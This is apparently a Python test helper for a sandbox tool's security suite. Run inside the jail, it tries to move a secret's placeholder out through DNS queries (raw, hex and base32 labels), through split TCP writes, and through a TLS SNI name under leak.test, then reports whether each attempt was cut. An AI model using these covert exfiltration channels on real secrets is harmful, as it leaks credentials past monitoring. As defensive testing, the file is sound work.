#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
#
# secret_leak.py: a jailed program that tries to send a secret's placeholder out without HTTP,
# for tests/security/secret_dns.t and secret_stream.t. It reads the placeholder from its
# environment (boundary's --secret puts it there) and never prints it.
#
#   secret_leak.py dns VAR SUFFIX        asks 127.0.0.1:53 (boundary's DNS: port 53 is redirected)
#                                        for names under SUFFIX that carry $VAR: the raw label
#                                        (UDP), hex split across two labels (UDP), lower-case
#                                        unpadded base32 split across two labels (TCP), and
#                                        ok.SUFFIX (UDP) as a control; prints "RAW: RCODE",
#                                        "HEX: RCODE", "B32: RCODE", "OK: RCODE" (NOERROR,
#                                        NXDOMAIN, ... or "none" when nothing came back)
#   secret_leak.py stream VAR HOST PORT  connects, sends "hello " and the first half of $VAR,
#                                        waits 0.5 s, sends the rest and a newline; prints
#                                        "CUT: yes" when the connection is closed or reset
#                                        within 5 s, "CUT: no" otherwise
#   secret_leak.py clean HOST PORT       connects, sends "clean bytes\n" in two writes, closes;
#                                        prints "CLEAN: sent"
#   secret_leak.py sni VAR HOST PORT     a TLS handshake whose server name is $VAR in hex split
#                                        across two labels, then ".leak.test"; prints "SNI: cut"
#                                        when the connection ends before the handshake does,
#                                        "SNI: handshake" when it completes (certificates unchecked)
import base64, os, random, socket, ssl, struct, sys, time

RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}


def query(name):
    qid = random.randrange(65536)
    msg = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        msg += bytes([len(label)]) + label.encode()
    return qid, msg + b"\0" + struct.pack("!HH", 1, 1)


def rcode(qid, reply):
    if len(reply) < 12 or struct.unpack("!H", reply[:2])[0] != qid:
        return "none"
    return RCODES.get(reply[3] & 0xF, str(reply[3] & 0xF))


def ask_udp(name):
    qid, msg = query(name)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    try:
        s.sendto(msg, ("127.0.0.1", 53))
        return rcode(qid, s.recv(4096))
    except OSError:
        return "none"


def ask_tcp(name):
    qid, msg = query(name)
    try:
        s = socket.create_connection(("127.0.0.1", 53), timeout=5)
        s.sendall(struct.pack("!H", len(msg)) + msg)
        f = s.makefile("rb")
        n = struct.unpack("!H", f.read(2))[0]
        return rcode(qid, f.read(n))
    except (OSError, struct.error):
        return "none"


def halves(text):
    return text[: len(text) // 2] + "." + text[len(text) // 2 :]


mode = sys.argv[1]
if mode == "dns":
    ph, suffix = os.environ[sys.argv[2]].encode(), sys.argv[3]
    print("RAW:", ask_udp(ph.decode() + "." + suffix))
    print("HEX:", ask_udp(halves(ph.hex()) + "." + suffix))
    print("B32:", ask_tcp(halves(base64.b32encode(ph).decode().lower().rstrip("=")) + "." + suffix))
    print("OK:", ask_udp("ok." + suffix))
elif mode == "stream":
    ph, host, port = os.environ[sys.argv[2]].encode(), sys.argv[3], int(sys.argv[4])
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(b"hello " + ph[: len(ph) // 2])
    time.sleep(0.5)
    cut = "no"
    try:
        s.sendall(ph[len(ph) // 2 :] + b"\n")
        if s.recv(1) == b"":
            cut = "yes"
    except (ConnectionResetError, BrokenPipeError):
        cut = "yes"
    except socket.timeout:
        pass
    print("CUT:", cut)
elif mode == "clean":
    s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=5)
    s.sendall(b"clean ")
    time.sleep(0.2)
    s.sendall(b"bytes\n")
    s.close()
    print("CLEAN: sent")
elif mode == "sni":
    ph, host, port = os.environ[sys.argv[2]].encode(), sys.argv[3], int(sys.argv[4])
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    s = socket.create_connection((host, port), timeout=5)
    try:
        ctx.wrap_socket(s, server_hostname=halves(ph.hex()) + ".leak.test")
        print("SNI: handshake")
    except (ssl.SSLError, ConnectionResetError, BrokenPipeError, OSError):
        print("SNI: cut")
